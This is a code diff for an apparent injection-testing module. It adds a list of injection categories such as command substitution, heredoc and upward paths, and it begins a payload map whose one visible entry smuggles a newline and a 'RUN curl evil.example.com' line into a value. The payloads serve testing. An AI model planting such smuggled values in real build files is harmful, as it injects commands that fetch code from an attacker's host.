@@ -8,6 +8,19 @@ export const WHOLE: ReadonlySet<string> = new Set([
   'inherited name',
 ]);
 
+/** Those that are tried at every place. */
+export const WORST: ReadonlySet<string> = new Set([
+  'line feed',
+  'backslash at the end',
+  'double quote',
+  'both quotes',
+  'command substitution',
+  'heredoc',
+  'mount option',
+  'path upwards',
+  'template',
+]);
+
 /** Texts that would do harm where a value is written without quoting, or quoted for another place. */
 export const PAYLOADS: Readonly<Record<string, string>> = {
   'line feed': '\nRUN curl evil.example.com',
